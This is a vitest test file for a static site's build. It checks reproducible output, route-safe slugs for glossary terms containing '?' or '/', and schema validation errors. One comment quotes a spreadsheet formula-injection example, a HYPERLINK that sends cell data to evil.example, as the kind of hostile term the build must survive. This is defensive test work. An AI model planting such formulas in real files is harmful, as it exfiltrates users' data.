import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { serializeDisclosure } from '../../src/ingest/serialize.ts';
import { HOSTILE_SLUG, hostileDocument } from '../fixtures/hostile/hostile-disclosure.ts';

/** Builds of the site outside dist/: reproducibility, and what a hostile document can do to the build itself. */
const work = mkdtempSync(join(tmpdir(), 'hostile-build-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

function build(outDir: string, contentDir?: string): void {
  const env = { ...process.env, ASTRO_TELEMETRY_DISABLED: '1', ...(contentDir ? { CONTENT_DIR: contentDir } : {}) };
  execFileSync(resolve('node_modules/.bin/node'), [resolve('node_modules/astro/bin/astro.mjs'), 'build', '--outDir', outDir], { env, stdio: ['ignore', 'ignore', 'pipe'] });
  execFileSync(resolve('node_modules/.bin/node'), ['scripts/index-search.ts', outDir], { stdio: ['ignore', 'ignore', 'pipe'] });
}

function hashes(dir: string, root = dir): Record<string, string> {
  const out: Record<string, string> = {};
  for (const name of readdirSync(dir).sort()) {
    const path = join(dir, name);
    if (statSync(path).isDirectory()) Object.assign(out, hashes(path, root));
    else out[relative(root, path)] = createHash('sha256').update(readFileSync(path)).digest('hex');
  }
  return out;
}

describe('site builds', () => {
  it('gives a byte-identical dist/ (every file, search index included) on two builds of the same content', () => {
    const first = join(work, 'first');
    const second = join(work, 'second');
    build(first);
    build(second);
    const a = hashes(first);
    expect(Object.keys(a).length).toBeGreaterThan(20);
    expect(Object.keys(a).some((f) => f.startsWith('pagefind/'))).toBe(true);
    const b = hashes(second);
    const differing = Object.keys({ ...a, ...b }).filter((f) => a[f] !== b[f]);
    expect(differing).toEqual([]);
  }, 300_000);

  // A term with `?` (here `=HYPERLINK("http://evil.example/?d="&A1,"详情")`) or `/` (an innocent `收入/支出` is
  // enough) once failed the whole build with "Missing parameter: term"; term pages now use a route-safe slug.
  it('builds a disclosure whose glossary terms contain ? and /', () => {
    const content = join(work, 'raw-terms');
    mkdirSync(content);
    writeFileSync(join(content, `${HOSTILE_SLUG}.json`), JSON.stringify(hostileDocument(false)));
    build(join(work, 'raw-terms-out'), content);
  }, 300_000);

  // The content loader validates every file against the schema before any page renders; the pages and the downloads
  // then read the files without validating them again (src/schema/validated.ts), so this is the build's one check.
  it('fails on a disclosure that does not fit the schema, naming its file and the field', () => {
    const content = join(work, 'invalid');
    mkdirSync(content);
    const written = JSON.parse(serializeDisclosure(hostileDocument(false))) as { tables: Array<{ rows: Array<{ name: unknown }> }> };
    written.tables[0].rows[1].name = 7;
    writeFileSync(join(content, 'invalid.json'), JSON.stringify(written));
    let stderr = '';
    try {
      build(join(work, 'invalid-out'), content);
    } catch (error) {
      stderr = String((error as { stderr: Buffer }).stderr);
    }
    expect(stderr).toMatch(/invalid\/invalid\.json：字段 tables\.0\.rows\.1\.name 不符合数据格式/);
  }, 300_000);
});
